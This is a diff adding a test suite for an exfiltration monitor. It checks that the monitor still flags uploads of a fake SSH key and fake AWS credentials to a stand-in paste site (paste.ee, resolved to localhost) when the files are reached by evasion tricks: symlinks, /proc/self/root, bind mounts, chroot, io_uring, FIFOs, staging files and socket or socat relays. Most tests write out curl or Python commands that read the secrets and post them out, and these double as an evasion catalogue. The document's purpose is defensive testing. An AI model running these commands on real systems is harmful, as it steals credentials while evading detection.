@@ -1,0 +1,678 @@
+"""Evasion classes of issue 12, against the real monitor: an attacker who has read our code
+spells the same data another way. One section per class; each test runs real tools, asserts
+what the telemetry says about the object (its real path, inode and bytes) and, where the plain
+spelling alerts, the same alert for this one; and that no token of the fake secret reaches the
+output. Everyday twins stay silent."""
+
+import json
+import os
+import subprocess
+
+import pytest
+
+from harness import Scenario, as_list, assert_silent, check_service_saw, execute, get, is_action
+from harness import paths
+from harness.config import HTTPS_PORT
+
+from test_scenarios import run_attack, wait_for_evidence
+
+WAIT_S = 20.0
+PASTE = "paste.ee"
+UPLOAD = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 -T {{}} https://{PASTE}:8443/"
+
+
+def upload_scenario(name, shell, **extra):
+    return Scenario(name, "alert", shell, technique="T1567.003", domain=PASTE, uploads=True,
+                    **extra)
+
+
+def key_of(fake_home):
+    return fake_home.files[".ssh/id_ed25519"]
+
+
+def assert_no_secret(monitor, secret_file):
+    """No line of the fake secret's body (nor the whole of it) appears anywhere in the output."""
+    text = monitor.output.read_text(errors="replace")
+    tokens = [line for line in secret_file.read_text().splitlines() if len(line) >= 16]
+    assert tokens, "the fake secret has no token to look for"
+    leaked = [t for t in tokens if t in text]
+    assert not leaked, f"{len(leaked)} line(s) of {secret_file.name} reached the output"
+
+
+def opened(records, key, process_name, requested=None):
+    """The file-open records of `key` (by its real path and inode) by `process_name`."""
+    inode = os.stat(key).st_ino
+    found = [r for r in records
+             if is_action("file-open", {"process.name": process_name, "file.path": str(key)})(r)]
+    assert found, (f"no file-open of {key} by {process_name}: "
+                   f"{[get(r, 'file.path') for r in records if get(r, 'event.action') == 'file-open' and get(r, 'process.name') == process_name]}")
+    assert all(str(get(r, "file.inode")) == str(inode) for r in found)
+    if requested is not None:
+        assert any(get(r, "exfilwatch.file.requested_path", "") == requested for r in found), \
+            [get(r, "exfilwatch.file.requested_path") for r in found]
+    return found
+
+
+def summarised(records, key, process_name):
+    """A file-summary of `key` under its real path with every byte of it read."""
+    size = os.stat(key).st_size
+    found = [r for r in records
+             if is_action("file-summary", {"process.name": process_name, "file.path": str(key)})(r)
+             and get(r, "exfilwatch.file.bytes_read", 0) >= size]
+    assert found, f"no file-summary of {key} ({size} bytes) by {process_name}"
+    return found
+
+
+def attack(monitor, standin, fake_home, tmp_path, name, shell, **extra):
+    scenario = upload_scenario(name, shell, **extra)
+    return run_attack(scenario, monitor, standin, fake_home, tmp_path)
+
+
+# --- The plain spelling: the reference every other spelling must match ----------------------
+
+def test_plain_upload_alerts(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    attack(monitor, standin, fake_home, tmp_path, "plain", UPLOAD.format(key))
+    records = monitor.records()
+    opened(records, key, "curl", requested=str(key))
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+# --- Class: files known by what the kernel opened, not by the string a process typed ---------
+
+def test_symlink_to_key(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    link = tmp_path / "notes.txt"
+    link.symlink_to(key)
+    attack(monitor, standin, fake_home, tmp_path, "symlink", UPLOAD.format(link))
+    records = monitor.records()
+    opened(records, key, "curl", requested=str(link))
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+def test_dotdot_through_ignored_prefix(monitor, standin, fake_home, tmp_path):
+    # "/usr/lib/" opens are not reported (shared libraries); the prefix is matched on the
+    # resolved path, so climbing out of it names the key.
+    key = key_of(fake_home)
+    spelling = f"/usr/lib/../..{key}"
+    attack(monitor, standin, fake_home, tmp_path, "dotdot", UPLOAD.format(spelling))
+    records = monitor.records()
+    opened(records, key, "curl", requested=spelling)
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+def test_proc_self_root(monitor, standin, fake_home, tmp_path):
+    # "/proc/" is an ignored prefix too; /proc/self/root/... is the same file.
+    key = key_of(fake_home)
+    spelling = f"/proc/self/root{key}"
+    attack(monitor, standin, fake_home, tmp_path, "proc-root", UPLOAD.format(spelling))
+    records = monitor.records()
+    opened(records, key, "curl", requested=spelling)
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+def test_bind_mount_of_key_directory(monitor, standin, fake_home, tmp_path):
+    # The key's directory bound at a harmless name in a private mount namespace: the file is
+    # named where it lives, not where it is bound.
+    key = key_of(fake_home)
+    bound = tmp_path / "assets"
+    bound.mkdir()
+    spelling = bound / key.name
+    shell = (f"unshare --mount --propagation private bash -c "
+             f"'mount --bind {key.parent} {bound} && {UPLOAD.format(spelling)}'")
+    attack(monitor, standin, fake_home, tmp_path, "bind-mount", shell)
+    records = monitor.records()
+    opened(records, key, "curl", requested=str(spelling))
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+def test_chroot_names_the_key_in_the_task_view(monitor, standin, fake_home, tmp_path):
+    # A process chrooted above the fake HOME sees the key as /home/.ssh/id_ed25519: the walk
+    # stops at the task's root, and that name still classifies as a key.
+    key = key_of(fake_home)
+    assert key == tmp_path / "home" / ".ssh" / "id_ed25519"
+    script = (
+        "import encodings.idna, os, socket, ssl\n"
+        "c = ssl._create_unverified_context()\n"
+        f"os.chroot({str(tmp_path)!r}); os.chdir('/')\n"
+        "d = open('home/.ssh/id_ed25519', 'rb').read()\n"
+        f"s = c.wrap_socket(socket.create_connection(('127.0.0.1', {HTTPS_PORT})), "
+        f"server_hostname='{PASTE}')\n"
+        f"s.sendall(b'POST / HTTP/1.1\\r\\nHost: {PASTE}\\r\\nContent-Length: %d\\r\\n\\r\\n' "
+        "% len(d) + d)\n"
+        "s.recv(100)\n")
+    script_file = tmp_path / "chrooted.py"
+    script_file.write_text(script)
+    attack(monitor, standin, fake_home, tmp_path, "chroot", f"{paths.PYTHON} {script_file}")
+    inode = os.stat(key).st_ino
+    records = monitor.records()
+    found = [r for r in records
+             if is_action("file-open", {"file.path": "/home/.ssh/id_ed25519"})(r)
+             and str(get(r, "process.name")).startswith("python3")]
+    assert found and all(str(get(r, "file.inode")) == str(inode) for r in found)
+    assert any(get(r, "exfilwatch.file.requested_path") == "home/.ssh/id_ed25519" for r in found)
+    assert_no_secret(monitor, key)
+
+
+@pytest.fixture(scope="module")
+def handle_open(tmp_path_factory):
+    source = paths.TOOLS_DIR / "handle_open.c"
+    binary = tmp_path_factory.mktemp("handle_open") / "handle_open"
+    done = subprocess.run(["gcc", "-O2", "-Wall", "-o", str(binary), str(source)],
+                          capture_output=True, text=True, timeout=120)
+    if done.returncode != 0:
+        pytest.fail(f"cannot compile {source}:\n{done.stderr[-3000:]}", pytrace=False)
+    return binary
+
+
+def test_open_by_handle_at(monitor, standin, fake_home, tmp_path, handle_open):
+    # No path on the open at all: the record names the file from the opened file itself.
+    key = key_of(fake_home)
+    shell = (f"{handle_open} {key} | curl -sk --resolve {PASTE}:8443:127.0.0.1 "
+             f"--data-binary @- https://{PASTE}:8443/")
+    attack(monitor, standin, fake_home, tmp_path, "open-by-handle", shell)
+    records = monitor.records()
+    found = opened(records, key, "handle_open")
+    assert any(not get(r, "exfilwatch.file.requested_path") for r in found), \
+        "no file-open record came from open_by_handle_at (it names no path)"
+    summarised(records, key, "handle_open")
+    assert_no_secret(monitor, key)
+
+
+def test_fd_reused_after_close(monitor, standin, fake_home, tmp_path):
+    # fd 3 is a harmless file, closed, then the key: /dev/fd/3 (an ignored /dev/ prefix) is
+    # reopened by curl and named by what it is now.
+    key = key_of(fake_home)
+    harmless = tmp_path / "readme.txt"
+    harmless.write_text("nothing to see\n" * 20)
+    # (`; true`: curl runs as bash's child, not exec'd in place of the shell that opened fd 3)
+    shell = (f"exec 3<{harmless}; cat <&3 >/dev/null; exec 3<&-; exec 3<{key}; "
+             + UPLOAD.format("/dev/fd/3") + "; true")
+    attack(monitor, standin, fake_home, tmp_path, "fd-reuse", shell)
+    records = monitor.records()
+    opened(records, key, "curl", requested="/dev/fd/3")
+    summarised(records, key, "curl")
+    assert not [r for r in records
+                if is_action("file-summary", {"process.name": "curl", "file.path": str(harmless)})(r)]
+    assert_no_secret(monitor, key)
+
+
+def test_symlink_with_key_name_to_harmless_file_is_silent(monitor, standin, fake_home, tmp_path):
+    # The twin: a link that only looks like a key (a name under ~/.ssh) to an ordinary file.
+    harmless = tmp_path / "motd.txt"
+    harmless.write_text("welcome to the build host\n" * 10)
+    decoy = fake_home.path / ".ssh" / "id_backup"
+    decoy.symlink_to(harmless)
+    scenario = Scenario("decoy-link", "silent", UPLOAD.format(decoy), domain=PASTE, uploads=True)
+    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+    check_service_saw(scenario, standin)
+    wait_for_evidence(monitor, scenario, standin)
+    monitor.stop()
+    records = monitor.records()
+    assert [r for r in records
+            if is_action("file-open", {"process.name": "curl", "file.path": str(harmless),
+                                       "exfilwatch.file.requested_path": str(decoy)})(r)]
+    assert_silent(records)
+
+
+def test_library_reached_through_dotdot_stays_unreported(monitor, tmp_path):
+    # The other side of matching prefixes on the resolved path: a library named through a
+    # harmless-looking path is still a library, counted but not reported.
+    library = "/usr/lib/os-release"
+    spelling = f"/tmp/..{library}"
+    marker = tmp_path / "marker.txt"
+    marker.write_text("x\n")
+    done = subprocess.run(["/bin/sh", "-c", f"cat {spelling} {marker} > /dev/null"], timeout=30)
+    assert done.returncode == 0
+    monitor.wait_for(is_action("file-open", {"file.path": str(marker)}), WAIT_S, "the marker's open")
+    monitor.stop()
+    assert not [r for r in monitor.records()
+                if get(r, "event.action") == "file-open" and get(r, "file.path") == library]
+
+
+# --- Class: every way of reading counts (io_uring) --------------------------------------------
+
+@pytest.fixture(scope="module")
+def uring_read(tmp_path_factory):
+    source = paths.TOOLS_DIR / "uring_read.c"
+    binary = tmp_path_factory.mktemp("uring_read") / "uring_read"
+    done = subprocess.run(["gcc", "-O2", "-Wall", "-o", str(binary), str(source), "-luring"],
+                          capture_output=True, text=True, timeout=120)
+    if done.returncode != 0:
+        pytest.fail(f"cannot compile {source} (liburing-dev comes with scripts/setup):\n"
+                    f"{done.stderr[-3000:]}", pytrace=False)
+    return binary
+
+
+def test_io_uring_open_and_reads(monitor, standin, fake_home, tmp_path, uring_read):
+    # Opened with IORING_OP_OPENAT (the key) and OPENAT2 (the AWS credentials), each read whole
+    # once with READ, READV, READ_FIXED and SPLICE: no open(2) or read(2) at all. The key's
+    # bytes go on to a paste site through a pipe.
+    key = key_of(fake_home)
+    aws = fake_home.files[".aws/credentials"]
+    shell = (f"{uring_read} {key} {aws} | curl -sk --resolve {PASTE}:8443:127.0.0.1 "
+             f"--data-binary @- https://{PASTE}:8443/")
+    attack(monitor, standin, fake_home, tmp_path, "io-uring", shell)
+    records = monitor.records()
+    for path in (key, aws):
+        found = opened(records, path, "uring_read")
+        assert any(not get(r, "exfilwatch.file.requested_path") for r in found)
+        size = os.stat(path).st_size
+        summaries = [r for r in records
+                     if is_action("file-summary", {"process.name": "uring_read", "file.path": str(path)})(r)]
+        assert summaries, f"no file-summary of {path}"
+        assert get(summaries[-1], "exfilwatch.file.bytes_read") == 4 * size, \
+            f"{path.name}: {get(summaries[-1], 'exfilwatch.file.bytes_read')} bytes counted, 4 x {size} read"
+    assert_no_secret(monitor, key)
+
+
+# --- Class: taint follows the data through any number of hops (the data-flow model) ----------
+# The key never travels under its own name: it moves through staging files, FIFOs, sockets and
+# shell variables, across sessions and subshells. Each attack alerts with its sub-technique, and
+# no token of the key reaches the output; the everyday twins (no data passed) stay silent.
+
+def own_alerts(monitor, technique="T1567.003"):
+    """This test's alerts: to the stand-in's port under the paste site's name (other monitors'
+    test traffic on the host can alert too, to their own ports)."""
+    found = [r for r in monitor.records()
+             if get(r, "event.action") == "exfiltration-suspected"
+             and get(r, "destination.port") == HTTPS_PORT and get(r, "destination.domain") == PASTE
+             and technique in as_list(get(r, "threat.technique.subtechnique.id", []))]
+    assert found, f"no {technique} alert to {PASTE}:{HTTPS_PORT}"
+    return found
+
+
+def dataflow_attack(monitor, standin, fake_home, tmp_path, name, shell, **extra):
+    attack(monitor, standin, fake_home, tmp_path, name, shell, **extra)
+    return own_alerts(monitor)
+
+
+def silent_run(monitor, standin, fake_home, tmp_path, name, shell, **extra):
+    scenario = Scenario(name, "silent", shell, domain=PASTE, uploads=True, **extra)
+    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+    check_service_saw(scenario, standin)
+    wait_for_evidence(monitor, scenario, standin)
+    monitor.stop()
+    # Other monitors' test traffic shares the host: this test's alerts are those to this
+    # stand-in's port or naming this test's directory (files, chain).
+    assert_silent([r for r in monitor.records()
+                   if get(r, "destination.port") == HTTPS_PORT or str(tmp_path) in json.dumps(r)])
+
+
+def test_staging_chain_of_four_hops_through_dev_shm_and_tmp(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    shm = f"/dev/shm/ew-{tmp_path.name}"
+    a, b, c, d = f"{shm}-a", tmp_path / "b", f"{shm}-c", tmp_path / "d.txt"
+    shell = (f"cat {key} > {a} && cp {a} {b} && base64 < {b} > {c} && dd if={c} of={d} status=none && "
+             + UPLOAD.format(d))
+    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "staging-chain", shell, leftovers=(a, c))
+    assert any("staged in" in get(r, "event.reason", "") for r in found), [get(r, "event.reason") for r in found]
+    assert_no_secret(monitor, key)
+
+
+def test_hard_link_at_a_harmless_name(monitor, standin, fake_home, tmp_path):
+    # The kernel names a hard link by its own dentry (notes.txt): the key is known by its
+    # (device, inode) once anything opened it under its real name (here ssh-keygen, for itself).
+    key = key_of(fake_home)
+    link = tmp_path / "notes.txt"
+    shell = (f"ssh-keygen -y -f {key} > /dev/null && ln {key} {link} && " + UPLOAD.format(link))
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "hard-link", shell)
+    assert_no_secret(monitor, key)
+
+
+def test_fifo_across_setsid(monitor, standin, fake_home, tmp_path):
+    # Writer and reader never share a session or a parent: only the FIFO joins them.
+    key = key_of(fake_home)
+    fifo = tmp_path / "ff"
+    shell = (f"mkfifo {fifo} && (setsid sh -c 'cat {key} > {fifo}' &) && "
+             + UPLOAD.format(fifo))
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "fifo-setsid", shell)
+    assert_no_secret(monitor, key)
+
+
+def test_command_substitution_at_depth_three(monitor, standin, fake_home, tmp_path):
+    # The key's base64 lives only in a shell variable, two subshells and a substitution deep,
+    # and reaches curl on stdin through a here-string.
+    key = key_of(fake_home)
+    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
+    shell = f'( ( x=$( ( cat {key} | base64 -w0 ) ); {curl} <<< "$x" ) )'
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "substitution-depth-3", shell)
+    assert_no_secret(monitor, key)
+
+
+def test_background_job_that_passed_no_data_is_silent(monitor, standin, fake_home, tmp_path):
+    # The everyday twin of the pipeline: a job of the same script read the key for itself
+    # (its output went nowhere); the upload of an unrelated report stays silent.
+    key = key_of(fake_home)
+    report = tmp_path / "report.txt"
+    report.write_text("build 1234 passed\n" * 200)
+    shell = (f"( cat {key} > /dev/null; sha256sum {key} > /dev/null; sleep 2 ) & "
+             + UPLOAD.format(report) + "; wait")
+    silent_run(monitor, standin, fake_home, tmp_path, "background-job", shell)
+
+
+def test_provisioner_rewriting_hosts_links_nothing(monitor, standin, fake_home, tmp_path):
+    # A provisioner (its own session) rewrites /etc/hosts; a later upload that resolves names
+    # through it, in a shell that also read the key for itself, stays silent.
+    key = key_of(fake_home)
+    report = tmp_path / "report.txt"
+    report.write_text("deploy finished\n" * 200)
+    shell = (f"setsid sh -c 'cp /etc/hosts {tmp_path}/hosts.new && "
+             f"echo 127.0.0.1 build-cache.internal >> {tmp_path}/hosts.new && "
+             f"cat {tmp_path}/hosts.new > /etc/hosts' && "
+             f"ssh-keygen -y -f {key} > /dev/null && "
+             f"getent hosts build-cache.internal > /dev/null && " + UPLOAD.format(report))
+    silent_run(monitor, standin, fake_home, tmp_path, "provisioner-hosts", shell, hosts=(PASTE,))
+
+
+# --- Class: data through channels (telemetry the taint model follows) ------------------------
+# Each channel between two processes yields object-io records at both ends naming the same
+# object (kind and id): the writer's "write" and the reader's "read", with the bytes moved.
+
+PY = paths.PYTHON
+
+
+def io_records(monitor, pid, direction, kind):
+    return monitor.find(is_action("object-io", {"process.pid": pid, "exfilwatch.object.kind": kind,
+                                                "exfilwatch.object.direction": direction}))
+
+
+def wait_io(monitor, pid, direction, kind, nbytes=None, object_id=None):
+    """The object-io record of `pid` moving `nbytes` (cumulative) through a `kind` object."""
+    def match(record):
+        fields = {"process.pid": pid, "exfilwatch.object.kind": kind,
+                  "exfilwatch.object.direction": direction}
+        if nbytes is not None:
+            fields["exfilwatch.object.bytes"] = nbytes
+        if object_id is not None:
+            fields["exfilwatch.object.id"] = object_id
+        return is_action("object-io", fields)(record)
+    return monitor.wait_for(match, WAIT_S, f"{direction} of {nbytes} bytes through a {kind} by {pid}")
+
+
+def finish(*processes):
+    for p in processes:
+        _, err = p.communicate(timeout=60)
+        assert p.returncode == 0, err.decode(errors="replace") if err else p.returncode
+
+
+def assert_same_channel(monitor, writer, reader, kind, nbytes):
+    write = wait_io(monitor, writer, "write", kind, nbytes)
+    object_id = get(write, "exfilwatch.object.id")
+    wait_io(monitor, reader, "read", kind, nbytes, object_id)
+    return object_id
+
+
+def test_pipe_between_two_processes(monitor):
+    writer = subprocess.Popen(["head", "-c", "5000", "/dev/urandom"], stdout=subprocess.PIPE)
+    reader = subprocess.Popen(["cat"], stdin=writer.stdout, stdout=subprocess.DEVNULL,
+                              stderr=subprocess.PIPE)
+    writer.stdout.close()
+    finish(writer, reader)
+    # The counts at exit: every byte, though the kernel sent only the first write and read.
+    assert_same_channel(monitor, writer.pid, reader.pid, "pipe", 5000)
+
+
+def test_fifo_across_setsid(monitor, tmp_path):
+    fifo = tmp_path / "drop"
+    os.mkfifo(fifo)
+    reader = subprocess.Popen(["setsid", "cat", str(fifo)], stdout=subprocess.DEVNULL,
+                              stderr=subprocess.PIPE)
+    writer = subprocess.Popen(["setsid", "sh", "-c", f"exec head -c 3000 /dev/urandom > {fifo}"],
+                              stderr=subprocess.PIPE)
+    finish(writer, reader)
+    object_id = assert_same_channel(monitor, writer.pid, reader.pid, "fifo", 3000)
+    assert object_id == str(os.stat(fifo).st_ino)
+    write = io_records(monitor, writer.pid, "write", "fifo")[0]
+    read = io_records(monitor, reader.pid, "read", "fifo")[0]
+    assert get(write, "exfilwatch.object.device") == get(read, "exfilwatch.object.device") == \
+        str(os.stat(fifo).st_dev)
+    assert get(write, "process.session_leader.pid") != get(read, "process.session_leader.pid")
+
+
+UNIX_SERVER = """
+import socket, sys
+kind = socket.SOCK_STREAM if sys.argv[2] == "stream" else socket.SOCK_DGRAM
+s = socket.socket(socket.AF_UNIX, kind)
+s.bind(sys.argv[1])
+if kind == socket.SOCK_STREAM:
+    s.listen(1)
+    print("ready", flush=True)
+    c, _ = s.accept()
+else:
+    print("ready", flush=True)
+    c = s
+total = 0
+while total < int(sys.argv[3]):
+    data = c.recv(65536)
+    if not data:
+        break
+    total += len(data)
+"""
+
+UNIX_CLIENT = """
+import socket, sys
+kind = socket.SOCK_STREAM if sys.argv[2] == "stream" else socket.SOCK_DGRAM
+s = socket.socket(socket.AF_UNIX, kind)
+s.connect(sys.argv[1])
+for _ in range(int(sys.argv[3]) // 1000):
+    s.send(b"k" * 1000)
+"""
+
+
+def unix_pair(tmp_path, kind, nbytes):
+    path = str(tmp_path / f"{kind}.sock")
+    server = subprocess.Popen([PY, "-c", UNIX_SERVER, path, kind, str(nbytes)],
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert server.stdout.readline().strip() == b"ready"
+    client = subprocess.Popen([PY, "-c", UNIX_CLIENT, path, kind, str(nbytes)],
+                              stderr=subprocess.PIPE)
+    finish(client, server)
+    return client.pid, server.pid
+
+
+def test_unix_stream_socket(monitor, tmp_path):
+    client, server = unix_pair(tmp_path, "stream", 20000)
+    assert_same_channel(monitor, client, server, "unix_socket", 20000)
+
+
+def test_unix_datagram_socket(monitor, tmp_path):
+    client, server = unix_pair(tmp_path, "dgram", 5000)
+    assert_same_channel(monitor, client, server, "unix_socket", 5000)
+
+
+SOCKETPAIR = """
+import os, socket
+a, b = socket.socketpair()
+child = os.fork()
+if child == 0:
+    a.close()
+    b.sendall(b"p" * 7000)   # the inherited end
+    os._exit(0)
+b.close()
+total = 0
+while total < 7000:
+    total += len(a.recv(65536))
+os.waitpid(child, 0)
+print(child, flush=True)
+"""
+
+
+def test_socketpair_inherited_by_a_child(monitor):
+    parent = subprocess.Popen([PY, "-c", SOCKETPAIR], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    out, err = parent.communicate(timeout=60)
+    assert parent.returncode == 0, err.decode(errors="replace")
+    child = int(out.decode().split()[-1])
+    assert_same_channel(monitor, child, parent.pid, "unix_socket", 7000)
+
+
+TCP_SINK = """
+import socket, sys
+s = socket.socket()
+s.bind(("127.0.0.1", 0))
+s.listen(1)
+print(s.getsockname()[1], flush=True)
+c, _ = s.accept()
+total = 0
+while True:
+    data = c.recv(65536)
+    if not data:
+        break
+    total += len(data)
+"""
+
+TCP_SOURCE = """
+import socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+s.sendall(b"r" * int(sys.argv[2]))
+s.close()
+"""
+
+
+def free_port():
+    import socket
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def test_loopback_tcp_relay(monitor):
+    # source -> socat relay -> sink, all on loopback: two connections, each named the same from
+    # both of its ends, the relay reading one and writing the other.
+    sink = subprocess.Popen([PY, "-c", TCP_SINK], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    sink_port = int(sink.stdout.readline())
+    relay_port = free_port()
+    relay = subprocess.Popen(["socat", f"TCP-LISTEN:{relay_port},bind=127.0.0.1,reuseaddr",
+                              f"TCP:127.0.0.1:{sink_port}"], stderr=subprocess.PIPE)
+    import time
+    deadline = time.monotonic() + 10
+    while subprocess.run(["ss", "-Hltn", f"sport = :{relay_port}"], capture_output=True,
+                         text=True).stdout.strip() == "":
+        assert time.monotonic() < deadline, "socat did not listen"
+        time.sleep(0.05)
+    source = subprocess.Popen([PY, "-c", TCP_SOURCE, str(relay_port), "30000"], stderr=subprocess.PIPE)
+    finish(source, relay, sink)
+    first = assert_same_channel(monitor, source.pid, relay.pid, "loopback_socket", 30000)
+    second = assert_same_channel(monitor, relay.pid, sink.pid, "loopback_socket", 30000)
+    assert first != second
+
+
+# --- Class: taint through sockets, to an uploader that never read the key -------------------
+# The reader and the uploader are other processes, in other sessions; the key's bytes reach the
+# uploader only through a UNIX socket (stream, datagram, an inherited socketpair) or a loopback
+# TCP relay (socat). The uploader posts what it received over TLS to the paste site.
+
+CHANNEL_TOOL = """
+import os, socket, ssl, sys, time
+
+def post(data):
+    c = ssl._create_unverified_context()
+    s = c.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
+    s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
+    s.recv(100)
+
+def connect(family, kind, address):
+    for _ in range(200):
+        try:
+            s = socket.socket(family, kind)
+            s.connect(address)
+            return s
+        except OSError:
+            time.sleep(0.05)
+    raise SystemExit("no peer at %s" % (address,))
+
+mode, arg = sys.argv[1], sys.argv[2]
+if mode in ("unix-stream-up", "unix-dgram-up"):       # receive on a UNIX socket, upload
+    kind = socket.SOCK_STREAM if mode == "unix-stream-up" else socket.SOCK_DGRAM
+    s = socket.socket(socket.AF_UNIX, kind)
+    s.bind(arg)
+    if kind == socket.SOCK_STREAM:
+        s.listen(1)
+        s, _ = s.accept()
+    data = s.recv(65536)
+    while kind == socket.SOCK_STREAM:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    post(data)
+elif mode in ("unix-stream-send", "unix-dgram-send"):  # read the key, send it on a UNIX socket
+    kind = socket.SOCK_STREAM if mode == "unix-stream-send" else socket.SOCK_DGRAM
+    data = open(sys.argv[3], "rb").read()
+    s = connect(socket.AF_UNIX, kind, arg)
+    s.send(data)
+elif mode == "socketpair":                             # a child reads and sends, the parent uploads
+    a, b = socket.socketpair()
+    if os.fork() == 0:
+        a.close()
+        b.sendall(open(arg, "rb").read())
+        os._exit(0)
+    b.close()
+    data = b""
+    while True:
+        chunk = a.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    os.wait()
+    post(data)
+elif mode == "tcp-up":                                 # receive on loopback TCP, upload
+    srv = socket.socket()
+    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    srv.bind(("127.0.0.1", int(arg)))
+    srv.listen(1)
+    c, _ = srv.accept()
+    data = b""
+    while True:
+        chunk = c.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    post(data)
+elif mode == "tcp-send":                               # read the key, send it to a loopback port
+    data = open(sys.argv[3], "rb").read()
+    s = connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(arg)))
+    s.sendall(data)
+    s.close()
+"""
+
+
+def channel_tool(tmp_path):
+    tool = tmp_path / "channel.py"
+    tool.write_text(CHANNEL_TOOL.format(port=HTTPS_PORT, paste=PASTE))
+    return f"{paths.PYTHON} {tool}"
+
+
+@pytest.mark.parametrize("kind", ["stream", "dgram"])
+def test_unix_socket_to_an_uploader_in_another_session(monitor, standin, fake_home, tmp_path, kind):
+    key = key_of(fake_home)
+    tool, sock = channel_tool(tmp_path), tmp_path / f"{kind}.sock"
+    shell = (f"{tool} unix-{kind}-up {sock} & sleep 0.5; "
+             f"setsid {tool} unix-{kind}-send {sock} {key}; wait")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, f"unix-{kind}", shell)
+    assert_no_secret(monitor, key)
+
+
+def test_socketpair_from_a_child_to_its_parent(monitor, standin, fake_home, tmp_path):
+    # The parent never read the key, and forked the child before the child did: only the
+    # inherited socketpair carries it back.
+    key = key_of(fake_home)
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "socketpair",
+                    f"{channel_tool(tmp_path)} socketpair {key}")
+    assert_no_secret(monitor, key)
+
+
+def test_loopback_tcp_relay_through_socat(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    tool = channel_tool(tmp_path)
+    sink, relay = free_port(), free_port()
+    shell = (f"{tool} tcp-up {sink} & sleep 0.5; "
+             f"socat TCP-LISTEN:{relay},bind=127.0.0.1,reuseaddr TCP:127.0.0.1:{sink} & "
+             f"setsid {tool} tcp-send {relay} {key}; wait")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "loopback-relay", shell)
+    assert_no_secret(monitor, key)
